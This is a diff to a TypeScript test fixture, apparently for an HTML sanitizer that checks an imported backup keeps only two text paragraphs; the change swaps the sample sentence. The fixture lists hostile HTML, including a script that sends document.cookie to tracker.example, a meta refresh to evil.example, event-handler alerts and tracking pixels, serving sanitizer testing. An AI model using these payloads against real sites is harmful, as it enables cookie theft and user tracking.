@@ -3,13 +3,13 @@
 // anchored on) is exactly the two paragraphs once the HTML is sanitized.
 import { sampleTarget } from '../temp-archive'
 
-export const HOSTILE_TEXT = 'Officials counted 500 strikes.\n\nThe grid held at 70% of capacity.'
+export const HOSTILE_TEXT = 'Officers counted 600 drones.\n\nThe grid held at 70% of capacity.'
 
 const HOSTILE_HTML = [
   '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
   '<style>body{background:url(http://tracker.example/bg.png)}</style>',
   '<script>fetch("http://tracker.example/?c="+document.cookie)</script>',
-  '<p onclick="alert(1)">Officials counted 500 strikes.<img src="http://tracker.example/pixel.gif" onerror="alert(2)"></p>',
+  '<p onclick="alert(1)">Officers counted 600 drones.<img src="http://tracker.example/pixel.gif" onerror="alert(2)"></p>',
   '<iframe srcdoc="<script>alert(3)</script>"></iframe>',
   '<img src="data:image/png;base64,iVBORw0KGgo=" srcset="http://tracker.example/2x.png 2x" alt="">',
   '<video src="http://tracker.example/v.mp4" autoplay></video>',
@@ -48,7 +48,7 @@ export function hostileBackup() {
         color: 'yellow',
         note: '',
         tags: [],
-        target: sampleTarget(HOSTILE_TEXT, '500 strikes'),
+        target: sampleTarget(HOSTILE_TEXT, '600 drones'),
         createdAt: stamp,
         updatedAt: stamp,
       },
